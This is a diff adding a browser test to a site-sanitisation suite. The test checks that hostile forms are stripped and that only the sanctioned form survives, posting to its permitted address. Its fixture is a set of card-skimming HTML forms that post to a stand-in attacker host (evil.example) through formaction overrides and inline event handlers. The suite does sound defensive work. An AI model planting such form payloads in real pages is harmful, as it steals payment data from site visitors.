@@ -10,7 +10,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from tests.browser.sealed.conftest import FULL, Sealed, doors, empty_site, hosted, write_sealed
+from tests.browser.sealed.conftest import ASKED, FULL, Sealed, doors, empty_site, hosted, write_sealed
 
 pytestmark = pytest.mark.browser
 
@@ -76,6 +76,33 @@ def hostile(tmp_path_factory: pytest.TempPathFactory) -> Sealed:
         known[name] = doors(re.sub(r"\W", "-", name))
         write_sealed(site, replace(FULL, languages=()), known[name], partial(write_home, page=page))
     return Sealed(site, site, known)
+
+
+FORMS = f"""<form action="{EVIL}/f" method="post"><input name="card"><button>Pay</button></form>
+<form action="{ASKED.form}" method="get"><input name="card"></form>
+<form action="{ASKED.form}/other" method="post"><input name="card"></form>
+<form action="//evil.example/f" method="post"><textarea name="t"></textarea></form>
+<form id="own" action="{ASKED.form}" method="post" target="_top" enctype="text/plain" onsubmit="hit = 1" autocomplete="on">
+<input name="action" formaction="{EVIL}/f" form="x" list="y" pattern="z"><textarea name="method" oninput="hit = 1"></textarea>
+<button type="submit" formaction="{EVIL}/f" formmethod="get" formtarget="_top" name="submit">Send</button></form>
+<textarea id="loose" name="t"></textarea><button form="own" formaction="{EVIL}/g">P</button>"""
+
+
+def test_only_the_form_that_the_shell_names_is_left_and_it_posts_there_alone(
+    enter: Any, tmp_path_factory: pytest.TempPathFactory
+) -> None:
+    site, its = empty_site(tmp_path_factory.mktemp("forms")), doors("forms")
+    write_sealed(site, replace(ASKED, languages=()), its, partial(write_home, page=hostile_page(FORMS)))
+    with hosted(site) as base:
+        page = enter(Sealed(site, site, {"forms": its}, base).link("forms")).page
+        attributes = (
+            "nodes => nodes.map(node => [node.localName, ...[...node.attributes].map(({name}) => name)].join(' '))"
+        )
+        assert page.locator("main form").evaluate_all(attributes) == ["form id action method autocomplete"]
+        assert page.locator("form").get_attribute("action") == ASKED.form
+        assert page.locator("form *").evaluate_all(attributes) == ["input name", "textarea name", "button type name"]
+        assert page.locator("main > button").evaluate_all(attributes) == ["button"]
+        assert page.locator("textarea").count() == 1
 
 
 def write_home(folder: Path, page: bytes) -> None:
